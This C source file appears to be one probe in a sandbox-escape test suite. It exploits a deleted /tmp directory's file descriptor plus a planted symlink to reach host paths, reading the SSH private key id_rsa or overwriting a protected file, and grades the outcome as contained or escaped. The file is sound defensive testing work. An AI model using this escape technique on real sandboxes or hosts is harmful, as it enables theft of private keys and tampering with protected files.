// The private /tmp and deleted directories: keep a directory fd, remove the directory (and,
// with "parent", its parent too), then plant a symlink where the kernel says the directory was
// ("<dir> (deleted)", or the removed parent's name) pointing at a host directory, and resolve
// relative to the fd.
//   tmp_deleted_dir read|write|parent_read|parent_write
//   read: target ~/.ssh, read id_rsa; write: target the protected host dir, overwrite file.txt
#include "escape.h"

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "read";
  int write_mode = strstr(mode, "write") != NULL, parent = strncmp(mode, "parent", 6) == 0;
  char target[1024], leaf[64];
  if (write_mode) snprintf(target, sizeof(target), "%s", fx("ESC_PROTECTED"));
  else snprintf(target, sizeof(target), "%s/.ssh", fx("ESC_HOME"));
  snprintf(leaf, sizeof(leaf), "%s%s", parent ? "../" : "", write_mode ? "file.txt" : "id_rsa");
  const char *dir = parent ? "/tmp/p/d" : "/tmp/d";
  if (parent && mkdir("/tmp/p", 0755) != 0) finish(SETUP_ERROR, "mkdir /tmp/p: %s", strerror(errno));
  if (mkdir(dir, 0755) != 0) finish(SETUP_ERROR, "mkdir %s: %s", dir, strerror(errno));
  int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0) finish(SETUP_ERROR, "open %s: %s", dir, strerror(errno));
  if (rmdir(dir) != 0) finish(SETUP_ERROR, "rmdir %s: %s", dir, strerror(errno));
  if (parent && rmdir("/tmp/p") != 0) finish(SETUP_ERROR, "rmdir /tmp/p: %s", strerror(errno));
  const char *plant = parent ? "/tmp/p" : "/tmp/d (deleted)";
  if (symlink(target, plant) != 0) finish(CONTAINED, "symlink refused: %s", strerror(errno));
  int fd = openat(dfd, leaf, (write_mode ? O_WRONLY | O_TRUNC : O_RDONLY) | O_CLOEXEC);
  if (fd < 0) finish(CONTAINED, "openat(deleted dir fd, %s): %s", leaf, strerror(errno));
  if (write_mode) {
    write(fd, "PWNED-THROUGH-DELETED-DIR\n", 26);
    finish(ESCAPED, "opened %s/%s for writing through a deleted directory's fd", target, leaf);
  }
  if (leak_fd(fd, "deleted dir fd")) finish(ESCAPED, "read %s through a deleted directory's fd", leaf);
  finish(ESCAPED, "opened %s through a deleted directory's fd", leaf);
}
